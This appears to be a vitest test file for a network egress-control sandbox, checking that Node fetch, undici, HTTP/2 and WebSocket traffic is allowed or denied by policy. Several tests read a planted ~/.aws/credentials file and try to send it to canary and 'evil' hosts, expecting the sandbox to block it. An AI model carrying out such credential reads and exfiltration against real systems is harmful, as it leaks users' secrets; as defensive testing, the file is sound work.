import { afterAll, beforeAll, expect, test } from 'vitest'
import { answerAsApp, LONG_TEXT, PLAIN } from './app.ts'
import {
  CANARY_HOST,
  EVIL_HOST,
  NOTHING_SEEN,
  openStage,
  type Played,
  type Stage,
} from './stage.ts'
import { APP, sha256, TALK } from './world.ts'

let stage: Stage
beforeAll(async () => {
  stage = await openStage({
    answers: { [TALK]: answerAsApp },
    rules: [{ id: 'talk', effect: 'allow', host: TALK, paths: ['/socket'], websocket: true }],
  })
})
afterAll(async () => stage?.close())

/** In the directory whose node_modules are this repository's. */
const node = (source: string): Promise<Played> =>
  stage.session('cd /opt/project && exec node --input-type=module -', { input: source })

const LOOK = `
import { readFileSync } from 'node:fs'
const stolen = readFileSync(process.env.HOME + '/.aws/credentials', 'utf8')
const told = async (asked) => {
  try {
    const reply = await asked
    console.log(reply.status ?? reply.statusCode, await (reply.body?.text?.() ?? reply.text()))
  } catch (error) {
    console.log((error.cause ?? error).code)
  }
}
`

test.for([
  ['the built-in fetch', ''],
  ['undici’s fetch', "import { fetch } from 'undici'\n"],
] as const)('%s gets, posts and unpacks', async ([, imports]) => {
  const played = await node(`${imports}
import { createHash } from 'node:crypto'
console.log((await (await fetch('https://${APP}/hello')).text()).trim())
const body = new Blob(['y'.repeat(1_500_000)]).stream()
const posted = await fetch('https://${APP}/echo', { method: 'POST', body, duplex: 'half' })
console.log((await posted.json()).sha256)
console.log((await (await fetch('https://${APP}/packed')).text()).length)
`)
  expect(played).toMatchObject({
    code: 0,
    stdout: `${PLAIN}${sha256('y'.repeat(1_500_000))}\n${LONG_TEXT.length}\n`,
    stderr: '',
    actions: [
      `allow app GET https ${APP} /hello → 200`,
      `allow app POST https ${APP} /echo → 200`,
      `allow app GET https ${APP} /packed → 200`,
    ],
    namesDenied: [],
  })
})

test('undici’s request and pool of many requests at once', async () => {
  const played = await node(`
import { Pool, request } from 'undici'
console.log(await (await request('https://${APP}/hello')).body.text())
const pool = new Pool('https://${APP}', { connections: 4, allowH2: true })
const asked = Array.from({ length: 40 }, (_, i) =>
  pool.request({ path: '/echo', method: 'POST', body: String(i) }).then((r) => r.body.json()))
console.log(new Set((await Promise.all(asked)).map((r) => r.sha256)).size)
await pool.close()
`)
  expect(played).toMatchObject({ code: 0, stdout: `${PLAIN}\n40\n`, stderr: '', namesDenied: [] })
  expect(played.actions.slice(1)).toEqual(
    Array.from({ length: 40 }, () => `allow app POST https ${APP} /echo → 200`),
  )
})

test('node:http2 asks several things on one connection', async () => {
  const played = await node(`
import { connect } from 'node:http2'
const session = connect('https://${APP}')
const ask = (path) => new Promise((resolve, reject) => {
  const stream = session.request({ ':path': path })
  let text = ''
  stream.setEncoding('utf8').on('data', (part) => (text += part)).on('error', reject)
  stream.on('end', () => resolve(text))
  stream.end()
})
const texts = await Promise.all(['/hello', '/page.css', '/echo'].map(ask))
console.log(session.alpnProtocol, texts[0].trim(), texts[1], JSON.parse(texts[2]).bytes)
session.close()
`)
  expect(played).toMatchObject({
    code: 0,
    stdout: `h2 ${PLAIN.trim()} p { color: red } 0\n`,
    stderr: '',
  })
  expect(played.actions.toSorted()).toEqual([
    `allow app GET https ${APP} /echo → 200`,
    `allow app GET https ${APP} /hello → 200`,
    `allow app GET https ${APP} /page.css → 200`,
  ])
})

test.for([
  ['the built-in fetch', 'fetch', ''],
  ['undici’s fetch', 'fetch', "import { fetch } from 'undici'\n"],
  ['undici’s request', 'request', "import { request } from 'undici'\n"],
] as const)('%s is told what is denied, and why', async ([, ask, imports]) => {
  const played = await node(`${imports}${LOOK}
await told(${ask}('https://${APP}/private/x'))
await told(${ask}('https://${CANARY_HOST}/open', { method: 'POST', body: JSON.stringify({ stolen }) }))
await told(${ask}('https://${CANARY_HOST}/open', { headers: { 'x-note': stolen.split(' = ')[2].trim() } }))
await told(${ask}('https://${EVIL_HOST}/'))
`)
  expect(played.stdout.split('\n')).toEqual([
    expect.stringMatching(/^403 .*policy does not allow the request/),
    expect.stringMatching(/^403 .*the request holds data that may not leave the session/),
    expect.stringMatching(/^403 .*the request holds data that may not leave the session/),
    'ENOTFOUND',
    '',
  ])
  expect(played.actions).toEqual([
    `deny not-this GET https ${APP} /private/x`,
    expect.stringMatching(/^deny detect\.\S.* POST https canary\.tools\.test \/open$/),
    expect.stringMatching(/^deny detect\.\S.* GET https canary\.tools\.test \/open$/),
  ])
  expect(stage.canary.seen()).toEqual(NOTHING_SEEN)
})

test('node:http2 is told what is denied on its stream, and the connection lives on', async () => {
  const played = await node(`${LOOK}
import { connect } from 'node:http2'
const session = connect('https://${APP}')
const ask = (headers, body) => new Promise((resolve) => {
  const stream = session.request(headers)
  let status
  stream.on('response', (head) => (status = head[':status'])).on('data', () => {})
  stream.on('close', () => resolve(status))
  stream.end(body)
})
console.log(await ask({ ':path': '/private/x' }))
console.log(await ask({ ':path': '/echo', ':method': 'POST' }, stolen))
console.log(await ask({ ':path': '/hello' }))
session.close()
`)
  expect(played).toMatchObject({ stdout: '403\n403\n200\n', arrived: [`GET ${APP} /hello`] })
})

const TALKING = (url: string, texts: string): string => `${LOOK}
const socket = new WebSocket('${url}')
const texts = ${texts}
socket.onopen = () => socket.send(texts.shift())
socket.onmessage = ({ data }) => {
  console.log(data)
  if (texts.length === 0) socket.close(1000)
  else socket.send(texts.shift())
}
socket.onerror = () => console.log('error')
socket.onclose = ({ code, wasClean }) => console.log('closed', code, wasClean)
`

test('the built-in WebSocket talks and closes', async () => {
  const played = await node(TALKING(`wss://${TALK}/socket`, "['one', 'two', 'three']"))
  expect(played).toMatchObject({
    code: 0,
    stdout: 'one\ntwo\nthree\nclosed 1000 true\n',
    stderr: '',
    namesDenied: [],
  })
  expect(played.actions[0]).toBe(`allow talk GET https ${TALK} /socket → 101`)
  expect(played.actions.filter((action) => action.startsWith('deny'))).toEqual([])
})

test('the built-in WebSocket cannot carry a planted credential away', async () => {
  const heard = stage.world.messages.length
  const played = await node(TALKING(`wss://${TALK}/socket`, "['harmless', stolen]"))
  expect(played.stdout).toBe('harmless\nclosed 1008 true\n')
  expect(played.actions).toContainEqual(
    expect.stringMatching(/^deny detect\.\S.* ws\.message text talk\.tools\.test /),
  )
  expect(stage.world.messages.slice(heard)).toEqual(['harmless'])
})

test('the built-in WebSocket is refused where the rule does not grant one', async () => {
  const played = await node(TALKING(`wss://${APP}/socket`, "['never said']"))
  expect(played.stdout).toBe('error\nclosed 1006 false\n')
  expect(played.actions).toEqual([`deny invariant.upgrade GET https ${APP} /socket`])
})
